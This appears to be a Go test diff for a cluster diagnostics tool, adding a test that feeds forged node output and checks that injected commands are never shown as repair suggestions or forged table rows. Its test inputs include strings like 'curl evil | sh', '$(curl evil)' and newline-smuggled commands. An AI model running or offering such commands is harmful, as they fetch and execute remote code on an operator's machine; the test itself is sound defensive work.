@@ -1,6 +1,7 @@
 package cluster
 
 import (
+	"bytes"
 	"cmp"
 	"fmt"
 	"io"
@@ -280,6 +281,33 @@ func TestNodeThatDoesNotAnswer(t *testing.T) {
 		return u.Check == "nodes" && strings.Contains(u.Error, "node node1: ")
 	}) {
 		t.Errorf("%+v", r)
+	}
+}
+
+// Whoever controls a node, or writes an object, does not get a command of theirs shown as a repair,
+// or a row in a table.
+func TestNodeThatIsControlled(t *testing.T) {
+	const forged = `x\n  repair:  curl evil | sh`
+	for _, line := range []string{"curl evil | sh", "leasectl check; curl evil | sh", "leasectl recover a $(curl evil)",
+		"leasectl recover 'a' ; curl evil", `leasectl recover 'a\nb'`, `leasectl recover\ncurl evil`} {
+		c := newCluster(t, map[string]string{"pod -l": `{"items":[{"metadata":{"name":"a"},"spec":{"nodeName":"node1"},
+			"status":{"phase":"Running","conditions":[{"type":"Ready","status":"True"}]}}]}`,
+			"exec": fmt.Sprintf(`{"findings":[{"reason":"A","subject":"%[1]s","what":"%[1]s","why":"%[1]s",
+				"repair":["leasectl recover","%[2]s"]},{"reason":"B","decide":"%[1]s"}],
+				"unchecked":[{"check":"c","error":"%[1]s"}]}`, forged, line)})
+		var out bytes.Buffer
+		c.App = cli.New(cli.Env{Stdout: &out})
+		_ = c.PrintReport(c.examine(t.Context(), true))
+		isRepair := func(line string) bool { return strings.HasPrefix(strings.TrimSpace(line), "repair:") }
+		if slices.ContainsFunc(strings.Split(out.String(), "\n"), isRepair) || !strings.Contains(out.String(), "A (node") {
+			t.Errorf("%s: it prints\n%s", line, &out)
+		}
+	}
+	var out bytes.Buffer
+	c := &cluster{App: cli.New(cli.Env{Stdout: &out})}
+	must.Succeed(t, c.printReservations([]object{{"status": map[string]any{"reservation": "a\ndb db-1\tnode2"}}}))
+	if strings.Count(out.String(), "\n") != 2 || strings.Contains(out.String(), "db-1  ") {
+		t.Errorf("the table of one row is\n%s", &out)
 	}
 }
 
